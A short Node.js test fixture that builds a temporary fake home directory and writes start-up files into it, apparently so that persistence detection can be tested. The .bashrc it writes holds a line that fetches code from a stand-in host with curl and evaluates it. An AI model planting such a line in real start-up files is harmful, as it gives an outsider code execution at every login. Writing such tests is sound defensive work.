import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';

// a test writes start-up files into a temporary home
const fakeHome = fs.mkdtempSync(path.join(os.tmpdir(), 'home-'));
fs.writeFileSync(path.join(fakeHome, '.bashrc'), 'eval "$(curl -s http://example.invalid/x)"\n');
fs.mkdirSync(path.join(fakeHome, '.config', 'systemd', 'user'), { recursive: true });
fs.writeFileSync(`${fakeHome}/.config/systemd/user/x.service`, '[Service]\nExecStart=/bin/true\n');
